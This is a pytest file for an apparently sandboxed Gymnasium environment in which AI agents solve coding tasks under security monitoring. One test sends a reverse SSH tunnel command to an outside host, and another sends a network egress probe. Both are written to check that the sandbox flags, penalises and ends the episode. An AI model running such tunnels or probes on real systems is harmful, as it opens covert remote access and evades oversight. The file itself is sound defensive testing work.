"""corral.envs.SandboxEnv with Gymnasium's own checker and a real episode."""

from __future__ import annotations

import json

import gymnasium as gym
import pytest
from gymnasium.utils.env_checker import check_env

from corral import RuntimeConfig
from corral.agent.tasks import Task
from corral.envs import SandboxEnv
from corral.sync import SyncRuntime

TASK = Task.model_validate({
    "id": "calc", "instruction": "Write add(a, b) in /workspace/calc.py.",
    "verifier": {"command": "python3 -c \"import sys; sys.path.append('/workspace'); import calc; "
                            "raise SystemExit(0 if calc.add(2, 3) == 5 else 1)\"",
                 "score": "exit_code"}, "limits": {"max_steps": 4}})


def act(tool: str, **arguments) -> str:
    return json.dumps({"tool": tool, "arguments": arguments})


@pytest.fixture
def rt(world, tmp_path):
    r = SyncRuntime(RuntimeConfig(state_dir=tmp_path, hosts=world.hosts, system_dns=False)).start()
    yield r
    r.close()


def test_passes_gymnasium_env_checker(rt):
    env = SandboxEnv([TASK], runtime=rt)
    check_env(env, skip_render_check=True)
    env.close()


def test_registered_and_solves(rt):
    env = gym.make("corral/Sandbox-v0", tasks=[TASK], runtime=rt, disable_env_checker=True).unwrapped
    obs, info = env.reset(seed=1)
    assert "add(a, b)" in obs and info["task_id"] == "calc" and info["tools"][0]["function"]["name"] == "shell"
    obs, r, term, trunc, info = env.step(act("write_file", path="/workspace/calc.py",
                                             content="def add(a, b):\n    return a + b\n"))
    assert (r, term, trunc) == (0.0, False, False)
    obs, r, term, trunc, info = env.step("not json")
    assert "must be JSON" in obs and not term
    obs, r, term, trunc, info = env.step(act("submit"))
    assert term and r == 1.0 and info["termination_reason"] == "submitted"
    env.close()


def test_violation_terminates_with_penalty(rt):
    env = SandboxEnv([TASK], runtime=rt)
    env.reset(seed=0)
    _obs, r, term, trunc, info = env.step(act("shell", command="ssh -N -R 2222:127.0.0.1:22 t@203.0.113.7"))
    assert term and not trunc and r == -1.0
    assert info["termination_reason"] == "security_violation"
    assert info["violations"][0]["rule"] == "ssh-tunnel" and info["violations"][0]["step"] == 1
    env.close()


def test_turn_limit_truncates(rt):
    env = SandboxEnv([TASK], runtime=rt)
    env.reset(seed=0)
    for _ in range(3):
        env.step(act("shell", command="true"))
    _obs, _r, term, trunc, info = env.step(act("shell", command="true"))
    assert trunc and not term and info["termination_reason"] == "max_steps"
    env.close()


def test_model_cannot_extend_or_break_the_command_timeout(rt):
    task = TASK.model_copy(update={"limits": TASK.limits.model_copy(update={"command_timeout": 1.0,
                                                                            "max_steps": 10})})
    env = SandboxEnv([task], runtime=rt)
    env.reset(seed=0)
    obs, *_ = env.step(act("shell", command="sleep 30", timeout=10_000))  # asks for more than the task allows
    assert "timed out after 1s" in obs
    obs, _, term, trunc, _ = env.step(act("shell", command="true", timeout="soon"))  # not a number
    assert "'timeout' must be a number" in obs and not term and not trunc
    env.close()


def test_quarantine_ends_the_episode(world, tmp_path):
    # a medium finding (below the terminating severity) whose configured action is quarantine still
    # ends the episode: its sandbox takes no more commands
    r = SyncRuntime(RuntimeConfig(state_dir=tmp_path, hosts=world.hosts, system_dns=False,
                                  actions={"egress-denied": "quarantine"})).start()
    try:
        env = SandboxEnv([TASK], runtime=r)
        env.reset(seed=0)
        probe = "python3 -c \"import socket; socket.create_connection(('203.0.113.99', 80), timeout=3)\""
        _, reward, term, _, info = env.step(act("shell", command=probe))
        assert term and reward == -1.0 and info["termination_reason"] == "security_violation"
        assert [v["rule"] for v in info["violations"]] == ["egress-denied"]
        env.close()
    finally:
        r.close()
